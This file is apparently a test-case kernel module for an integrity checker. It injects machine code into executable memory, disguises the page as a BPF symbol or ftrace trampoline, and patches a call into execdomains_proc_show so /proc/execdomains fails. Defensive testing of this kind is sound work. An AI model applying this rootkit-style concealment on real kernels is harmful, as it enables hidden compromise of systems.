// SPDX-License-Identifier: GPL-2.0-only
/*
 * A page of code, listed as BPF's or as a trampoline of ftrace's, and called
 * where ftrace calls: /proc/execdomains fails.
 */
#include <linux/bpf.h>
#include <linux/ftrace.h>
#include <linux/set_memory.h>

#include "attack.h"

ATTACK_SYMBOL(execdomains_proc_show);
ATTACK_SYMBOL(set_memory_ro);
ATTACK_SYMBOL(set_memory_rw);
ATTACK_SYMBOL(set_memory_x);
ATTACK_SYMBOL(set_memory_nx);
ATTACK_SYMBOL(bpf_kallsyms);
ATTACK_SYMBOL(ftrace_ops_trampoline_list);
ATTACK_SYMBOL(bpf_jit_alloc_exec);
ATTACK_SYMBOL(bpf_jit_free_exec);

static bool as_ftrace;
module_param(as_ftrace, bool, 0);

/* Back to the caller's caller: add $8,%rsp; mov $-EIO,%eax; ret */
static const u8 code[] = {0x48, 0x83, 0xc4, 0x08, 0xb8, 0xfb, 0xff, 0xff, 0xff, 0xc3};
static struct bpf_ksym sym;
static struct ftrace_ops ops;
static u8 *page, *place;
static u8 old[5];

static int set(unsigned long function)
{
	return ((int (*)(unsigned long, int))function)((unsigned long)page, 1);
}

static void enlist(void)
{
	if (as_ftrace) {
		ops.trampoline = (unsigned long)page;
		ops.trampoline_size = PAGE_SIZE;
		list_add_rcu(&ops.list, (struct list_head *)ftrace_ops_trampoline_list_at);
	} else {
		sym.start = (unsigned long)page;
		sym.end = sym.start + PAGE_SIZE;
		strscpy(sym.name, "bpf_trampoline_4919", sizeof(sym.name));
		list_add_tail_rcu(&sym.lnode, (struct list_head *)bpf_kallsyms_at);
	}
}

static int run(void)
{
	u8 call[5] = {0xe8};
	s32 away;

	page = ((void *(*)(unsigned long))bpf_jit_alloc_exec_at)(PAGE_SIZE);
	if (!page)
		return -ENOMEM;
	memcpy(page, code, sizeof(code));
	if (set(set_memory_ro_at) || set(set_memory_x_at))
		return -EIO;
	enlist();
	place = attack_body(execdomains_proc_show_at) - sizeof(call);
	away = (s32)(page - (place + sizeof(call)));
	memcpy(call + 1, &away, sizeof(away));
	memcpy(old, place, sizeof(old));
	return attack_poke(place, call);
}

static void undo(void)
{
	if (attack_poke(place, old))
		pr_err("attack " KBUILD_MODNAME ": cannot be undone\n");
	if (as_ftrace)
		list_del_rcu(&ops.list);
	else
		list_del_rcu(&sym.lnode);
	synchronize_rcu();
	if (!set(set_memory_nx_at) && !set(set_memory_rw_at))
		((void (*)(void *))bpf_jit_free_exec_at)(page);
}

ATTACK(run, undo, NULL, "code in a forged list");
